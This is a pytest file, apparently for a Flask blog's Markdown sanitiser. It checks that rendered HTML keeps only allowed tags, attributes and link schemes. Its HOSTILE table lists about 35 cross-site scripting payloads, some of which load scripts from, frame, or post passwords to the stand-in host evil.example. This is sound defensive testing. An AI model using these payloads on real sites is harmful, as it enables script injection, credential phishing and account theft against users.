"""Markdown to HTML that is safe to show."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from justhtml import JustHTML

from flaskr.web.markdown import EXCERPT_LENGTH, TAGS, excerpt, to_html

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a block": "text\n\n<script src=//evil.example/x.js></script>\n\ntext",
    "event": "<img src=x onerror=alert(1)>",
    "event in upper case": "<IMG SRC=x ONERROR=alert(1)>",
    "event on a link": "<a href='/x' onclick='alert(1)'>x</a>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in HTML": "<a href='javascript:alert(1)'>x</a>",
    "javascript link with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "javascript link in references": "<a href='&#106;avascript:alert(1)'>x</a>",
    "javascript link by reference": "[x]\n\n[x]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "style element": "<style>body { display: none }</style>",
    "style attribute": "<p style='position:fixed;inset:0'>x</p>",
    "frame": "<iframe src='//evil.example'></iframe>",
    "frame with a page": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='x.swf'></object><embed src='x.swf'>",
    "drawing": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "formula": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "form": "<form action='//evil.example'><input name=password><button>Log in</button></form>",
    "base": "<base href='//evil.example/'>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "stylesheet": "<link rel=stylesheet href='//evil.example/x.css'>",
    "nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed": "<img src=x onerror=alert(1)//",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation in a template": "<template><img src=x onerror=alert(1)></template>",
    "comment": "<!--><script>alert(1)</script>-->",
    "alternative text": '![" onerror="alert(1)](x)',
    "title": "[x](/x '\" onmouseover=\"alert(1)')",
    "code": "`<script>alert(1)</script>`",
    "fence": '```"><script>alert(1)</script>\nx\n```',
    "identity": "<p id=main name=main class=skip>x</p>",
}
ATTRIBUTES = {"href", "title", "src", "alt", "width", "height", "loading", "align", "start", "rel"}
ATTRIBUTES |= {"class"}


def assert_harmless(html: str) -> None:
    """Nothing but known elements and attributes, and no address that runs anything."""
    page = JustHTML(str(html), sanitize=False, fragment=True)
    for element in page.query("*"):
        assert element.name in TAGS, element
        attributes = element.attrs or {}
        assert set(attributes) <= ATTRIBUTES, attributes
        if element.name != "code":
            assert "class" not in attributes
        for name in ("href", "src"):
            address = str(attributes.get(name, "")).strip().lower()
            scheme, colon, _ = address.partition(":")
            if colon and "/" not in scheme and "?" not in scheme and "#" not in scheme:
                assert scheme in {"http", "https", "mailto"}, address


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_text_becomes_harmless(source):
    assert_harmless(to_html(source))


@given(st.lists(st.sampled_from([*HOSTILE.values(), "\n", "\n\n", "> ", "- ", "`", '"', "<", ">"])))
def test_hostile_texts_stay_harmless_together(pieces):
    assert_harmless(to_html("".join(pieces)))


def test_markdown_is_rendered():
    html = to_html(
        "# Title\n\n**bold** *soft* ~~gone~~ [here](https://example.org)\n\n- one\n- two"
    )
    for part in ("<h1>Title</h1>", "<strong>bold</strong>", "<em>soft</em>", "<s>gone</s>"):
        assert part in html
    assert 'href="https://example.org"' in html
    assert html.count("<li>") == 2


def test_a_table_is_rendered():
    assert "<td>1</td>" in to_html("| a |\n|---|\n| 1 |")


def test_pictures_load_when_they_are_scrolled_to():
    assert 'loading="lazy"' in to_html("![a dog](/i/dog.png)")


def test_links_pass_on_no_reputation_and_no_opener():
    assert 'rel="noopener nofollow ugc"' in to_html("[x](https://example.org)")


def test_the_excerpt_is_plain_text():
    source = "# Title\n\nsome **bold** words & <b>tags</b> <script>alert(1)</script>\n\n![x](y)"
    assert excerpt(source) == "some bold words & tags"


def test_the_excerpt_of_a_long_text_is_cut():
    cut = excerpt("word " * 1000)
    assert len(cut) <= EXCERPT_LENGTH + 1
    assert cut.endswith("word…")
